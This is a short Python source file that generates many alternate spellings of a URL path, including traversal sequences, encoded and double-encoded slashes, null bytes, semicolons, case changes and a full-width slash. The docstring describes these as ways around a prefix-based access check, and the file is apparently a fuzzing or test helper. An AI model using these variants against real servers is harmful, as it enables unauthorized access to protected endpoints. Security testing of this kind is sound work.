"""Other spellings of a path, as someone writes them who looks for a way around a check of prefixes."""

from urllib.parse import quote


def mangled(path: str) -> list[str]:
    """The path itself first, then spellings that some server or another takes for the same."""
    head, _, tail = path.rpartition("/")
    spelt_out = "".join(f"%{ord(letter):02x}" if letter != "/" else letter for letter in path)
    return list(
        dict.fromkeys(
            [
                path,
                f"/{path}",
                f"//{path}",
                f"{path}/",
                f"{path}//",
                f"{path}/.",
                f"/.{path}",
                f"/x/..{path}",
                f"/livez/..{path}",
                f"/livez/../..{path}",
                f"/livez;{path}",
                f"/livez%00{path}",
                f"/livez%2f..{path}",
                f"/livez/%2e%2e{path}",
                f"/metrics/..{path}",
                f"/dspark/..{path}",
                f"/dspark/style.css/../..{path}",
                f"{head}/./{tail}",
                f"{head}//{tail}",
                f"{head}/x/../{tail}",
                f"{head}/%2e/{tail}",
                f"{head}%2f{tail}",
                f"{head}%252f{tail}",
                f"{head}\\{tail}",
                f"{path};a=b",
                f"{path}%20",
                f"{path}%00",
                f"{path}%0a",
                f"{path}%23",
                f"{path}%3f",
                f"{path}.json",
                path.upper(),
                path.title(),
                spelt_out,
                spelt_out.replace("%", "%25"),
                quote(path, safe=""),
                f"/{quote(path, safe='')}",
                path.replace("/", "/%2e/"),
                path.replace("/", "\uff0f"),
            ]
        )
    )
